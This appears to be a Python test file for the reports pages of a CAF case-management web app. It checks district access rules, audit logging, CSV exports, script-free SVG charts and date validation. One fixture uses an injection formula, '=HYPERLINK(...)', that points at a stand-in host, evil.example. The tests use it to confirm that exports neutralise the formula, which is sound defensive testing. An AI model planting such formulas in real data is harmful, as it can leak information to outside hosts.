"""The reports page over HTTP: who may see which district's figures, charts that are safe to
open, tables a spreadsheet cannot turn into formulas, and dates checked beside their fields."""

import csv
import io
import re
from datetime import date

import pytest
from sqlalchemy import select

from maf.audit.models import AuditEvent
from maf.auth.models import Role
from maf.dbtypes import utcnow
from maf.directory.models import AgencyType
from maf.extensions import db
from maf.reports import charts, figures
from maf.reports.views import SECTIONS

HYPERLINK = '=HYPERLINK("https://evil.example/?leak=1","Click for details")'
QUARTER = {"from": "2027-01-01", "to": "2027-03-31"}


@pytest.fixture
def melton(make_district):
    return make_district("Melton")


@pytest.fixture
def cases(make_case, make_agency, coordinator, melton):
    """Two CAFs completed in the quarter in Charnwood, one referred by an agency whose name is
    a spreadsheet formula; one in Melton."""
    rogue = make_agency(HYPERLINK, type=AgencyType.VOLUNTARY)
    first = make_case(
        "Amy", "Lee", date(2013, 2, 1), "LE11 1AA", assessment_completed_on=date(2027, 1, 20)
    )
    first.referrer_agency = rogue
    make_case("Ben", "Ward", date(2015, 3, 2), "LE12 2BB", assessment_completed_on=date(2027, 2, 3))
    make_case(
        "Cara",
        "Fox",
        date(2012, 4, 3),
        "LE13 3CC",
        assessment_completed_on=date(2027, 3, 3),
        district=melton,
    )
    db.session.commit()


def _audit(action: str) -> list[AuditEvent]:
    return list(db.session.scalars(select(AuditEvent).where(AuditEvent.action == action)))


def _error_beside(html: str, field: str) -> str:
    """The error message inside the form group of `field`."""
    group = re.search(
        rf'<div class="govuk-form-group govuk-form-group--error">(?:(?!govuk-form-group").)*?'
        rf'id="{field}-error"[^>]*>\s*<span class="govuk-visually-hidden">Error:</span>(.*?)</p>',
        html,
        re.S,
    )
    assert group, f"no error beside {field}"
    return group.group(1).strip()


def test_a_coordinator_sees_their_district_and_the_read_is_audited(
    client, coordinator, sign_in, cases
):
    sign_in(coordinator)
    district = coordinator.districts[0]
    response = client.get("/reports", query_string={"district": district.id, **QUARTER})
    assert response.status_code == 200
    html = response.text
    assert "Charnwood, 1 January 2027 to 31 March 2027" in html
    # Figures with something to show have a table with a caption, a chart with alt text and a
    # CSV file; the others (no needs recorded, no meetings held) say so instead.
    captions = re.findall(r"<caption[^>]*>\s*(.*?), Charnwood,", html)
    assert captions == [
        "Key measures",
        "CAFs received, completed and closed each month",
        "Age at assessment of the CAFs completed",
        "Settings of the CAFs completed",
        "Organisations that completed CAFs",
    ]
    assert html.count("<img ") == len(captions) - 1  # key measures is a table alone
    assert "No forum meetings were held in this period." in html
    for image in re.findall(r"<img [^>]*>", html):
        assert re.search(r'alt="[^"]{20,}"', image), image
    assert 'href="/reports/tables/organisations.csv?district=' in html
    assert "Whole authority" not in html, "a coordinator does not choose the whole authority"
    assert [event.detail for event in _audit("report_viewed")] == [
        "Charnwood, 1 January 2027 to 31 March 2027"
    ]


def test_the_page_defaults_to_the_last_twelve_full_months(client, coordinator, sign_in):
    sign_in(coordinator)
    html = client.get("/reports").text
    period = figures.last_full_months(utcnow().astimezone(figures.LONDON).date())
    assert f"Charnwood, {period.starts_on:%-d %B %Y} to {period.ends_on:%-d %B %Y}" in html


def test_another_district_is_not_found(client, coordinator, sign_in, melton, cases):
    sign_in(coordinator)
    for url in ("/reports", "/reports/charts/monthly.svg", "/reports/tables/totals.csv"):
        for district in (melton.id, "all", 999_999, "nonsense"):
            response = client.get(url, query_string={"district": district, **QUARTER})
            assert response.status_code == 404, (url, district)
    assert _audit("permission_denied")


def test_practitioners_may_not_see_reports(client, make_user, sign_in):
    sign_in(make_user(Role.PRACTITIONER))
    assert client.get("/reports").status_code == 403
    assert client.get("/reports/tables/totals.csv").status_code == 403


def test_an_admin_sees_the_whole_authority(client, make_user, sign_in, cases, melton):
    sign_in(make_user(Role.ADMIN))
    response = client.get("/reports", query_string={"district": "all", **QUARTER})
    assert response.status_code == 200
    assert "Whole authority, 1 January 2027 to 31 March 2027" in response.text
    # Key measures: 3 CAFs completed across both districts.
    totals = client.get("/reports/tables/totals.csv", query_string={"district": "all", **QUARTER})
    rows = list(csv.reader(io.StringIO(totals.text.lstrip("\ufeff"))))
    assert ["CAFs completed (assessment completed)", "3"] in rows
    response = client.get("/reports", query_string={"district": melton.id, **QUARTER})
    assert "Melton, 1 January 2027 to 31 March 2027" in response.text


def test_csv_cells_cannot_become_formulas(client, coordinator, sign_in, cases):
    sign_in(coordinator)
    query = {"district": coordinator.districts[0].id, **QUARTER}
    response = client.get("/reports/tables/organisations.csv", query_string=query)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "caf-organisations-charnwood-2027-01-01-to-2027-03-31.csv" in disposition
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    assert rows[0] == ["Organisation", "Type", "CAFs completed"]
    assert ["'" + HYPERLINK, "Voluntary or community sector", "1"] in rows
    assert ["Loughborough Woodgate High School", "High school", "1"] in rows
    assert [event.detail for event in _audit("report_exported")] == [
        "organisations.csv: Charnwood, 1 January 2027 to 31 March 2027"
    ]
    for section in SECTIONS:  # every table downloads
        assert (
            client.get(f"/reports/tables/{section.name}.csv", query_string=query).status_code == 200
        )


def test_charts_are_svg_without_scripts_or_inline_styles(client, coordinator, sign_in, cases):
    sign_in(coordinator)
    query = {"district": coordinator.districts[0].id, **QUARTER}
    response = client.get("/reports/charts/organisations.svg", query_string=query)
    assert response.status_code == 200
    assert response.mimetype == "image/svg+xml"
    svg = response.text
    assert svg.startswith('<?xml version="1.0" encoding="utf-8"?>\n<svg ')
    assert "HYPERLINK(&quot;https" in svg or 'HYPERLINK("https' in svg  # as text, escaped
    assert "<script" not in svg.lower()
    # No CSS at all, so the site's policy (no inline styles) does not stop it drawing.
    assert "<style" not in svg and "style=" not in svg
    assert "'unsafe-inline'" not in response.headers["Content-Security-Policy"]
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert client.get("/reports/charts/organisations.svg", query_string=query).text == svg, (
        "the same figures always draw the same bytes"
    )
    for section in SECTIONS:
        if section.chart is not None:
            chart = client.get(f"/reports/charts/{section.name}.svg", query_string=query)
            assert chart.status_code == 200 and "style=" not in chart.text, section.name
    assert client.get("/reports/charts/totals.svg", query_string=query).status_code == 404
    assert (
        client.get(
            "/reports/charts/monthly.svg", query_string={**query, "from": "2027-02-30"}
        ).status_code
        == 400
    )


def test_bad_dates_are_reported_beside_their_fields(client, coordinator, sign_in):
    sign_in(coordinator)
    district = coordinator.districts[0].id
    html = client.get(
        "/reports",
        query_string={"district": district, "from": ["31", "2", "2027"], "to": ["", "3", "2027"]},
    ).text
    assert "There is a problem" in html
    assert _error_beside(html, "from") == "From must be a real date"
    assert _error_beside(html, "to") == "To must include a day"
    assert 'value="31"' in html, "what was typed is shown again"
    html = client.get(
        "/reports",
        query_string={"district": district, "from": ["1", "4", "2027"], "to": ["31", "3", "2027"]},
    ).text
    assert _error_beside(html, "to") == "The end date must be the same as or after the start date"
    html = client.get(
        "/reports",
        query_string={"district": district, "from": ["", "", ""], "to": ["1", "1", "2040"]},
    ).text
    assert _error_beside(html, "from") == "Enter the date the report starts from"
    html = client.get(
        "/reports",
        query_string={"district": district, "from": ["1", "1", "2020"], "to": ["2", "1", "2026"]},
    ).text
    assert _error_beside(html, "to") == "A report can cover at most 5 years"
    html = client.get(
        "/reports", query_string={"district": district, "from": "1999-12-31", "to": "2000-01-31"}
    ).text
    assert _error_beside(html, "from") == "From must be between 2000 and 2099"
    response = client.get(
        "/reports/tables/totals.csv",
        query_string={"district": district, "from": "9999-01-01", "to": "9999-12-31"},
    )
    assert response.status_code == 400
    assert not _audit("report_viewed"), "no figures were shown"


def test_charts_for_the_board_report_are_png_and_take_any_name():
    """The Word board report embeds PNG. Names are typed by people: a "$" is not maths and
    markup stays text."""
    pairs = [("Kids' $5 club <b>", 3), ("Youth service", 1)]
    png = charts.bar_chart_png("Where CAFs came from", pairs)
    assert png.startswith(b"\x89PNG\r\n\x1a\n")
    assert png == charts.bar_chart_png("Where CAFs came from", pairs)
    assert charts.monthly_chart_png([figures.MonthRow(date(2027, 1, 1), 2, 1, 0)]).startswith(
        b"\x89PNG"
    )
    svg = charts.bar_chart_svg("Where CAFs came from", pairs).decode()
    assert "Kids' $5 club &lt;b&gt;" in svg
